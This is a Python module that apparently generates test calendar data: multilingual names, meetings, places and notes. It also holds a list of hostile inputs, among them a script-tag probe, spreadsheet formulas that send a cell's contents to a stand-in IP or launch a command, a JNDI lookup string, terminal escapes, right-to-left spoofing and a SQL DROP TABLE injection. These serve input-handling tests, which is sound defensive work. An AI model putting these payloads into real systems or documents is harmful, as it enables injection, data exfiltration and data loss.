"""Words of generated calendars, hostile ones among them."""

import random

FIRST_NAMES = (
    "Amélie", "Bruno", "Chiara", "Dmitri", "Eun-ji", "Fatima", "Göran", "Hana", "Ines", "Jamal",
    "Keiko", "Lars", "Mei", "Noor", "Oluwaseun", "Priya", "Quentin", "Rosa", "Søren", "Tomás",
    "Uma", "Viktor", "Wanda", "Xavier", "Yara", "Zoë",
)  # fmt: skip
LAST_NAMES = (
    "Abe", "Bianchi", "Cohen", "Dubois", "Eriksen", "Fernández", "Gupta", "Hoffmann", "Ivanova",
    "Jensen", "Kim", "Lefèvre", "Müller", "Nakamura", "O’Brien", "Petrov", "Quispe", "Rossi",
    "Silva", "Tanaka", "Usman", "Van Dijk", "Wójcik", "Xu", "Yılmaz", "Zhang",
)  # fmt: skip
MEETINGS = (
    "Design review", "Standup", "1:1 with {name}", "Interview: {name}", "Budget Q{number}",
    "Planning", "Customer call {name} & Co.", "Retrospective", "Roadmap, part {number}",
    "Lunch with {name}", "Réunion d’équipe", "Besprechung Einkauf", "週次ミーティング",
    "Call / {name} / contract",
)  # fmt: skip
ALL_DAY = (
    "Holiday", "Conference, day {number}", "Out of office", "Birthday of {name}",
    "Release {number}",
)  # fmt: skip
PLACES = (
    "Room {number}", "Building B, Room {number}", "Café Central", "Online", "会議室{number}",
)  # fmt: skip
NOTES = (
    "", "", "Agenda:\n1. Numbers\n2. Risks", "Bring the printed plan.",
    "Dial-in: +49 30 12345{number}", "See the shared folder.\nThanks, {name}",
)  # fmt: skip
#: Over the 4,096 characters that a write may carry; it can be read, not written back.
LONG_NOTE = "All minutes of the last years, pasted into one invitation. " * 75
#: Markup, spreadsheet formulas, terminal escapes, right-to-left marks, format strings, odd spaces.
HOSTILE = (
    "<script>alert('calendar')</script>",
    '=HYPERLINK("http://203.0.113.9/?x="&A1,"click")',
    "\x1b[31mred\x1b[0m \x1b]0;title\x07",
    "\u202egnp.ecioivni\u202c שלום عليكم",
    "👩‍👩‍👧‍👦 party 🎉 \u0000 zero",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd, \"quoted\"; 'single'\r\nsecond line",
    "{{7*7}} ${jndi:ldap://203.0.113.9/a} %s %n",
    "  spaces\u00a0\u200b around\t",
    "'; DROP TABLE edits; --",
)


def name(rng: random.Random) -> str:
    """A person's name."""
    return f"{rng.choice(FIRST_NAMES)} {rng.choice(LAST_NAMES)}"


def phrase(rng: random.Random, choices: tuple[str, ...]) -> str:
    """One of some phrases, filled in."""
    return rng.choice(choices).format(name=rng.choice(FIRST_NAMES), number=rng.randint(1, 40))


def email(full_name: str, domain: str) -> str:
    """An address under a domain that nobody can own."""
    plain = full_name.encode("ascii", "ignore").decode().lower()
    return f"{'.'.join(plain.split())}@{domain}"
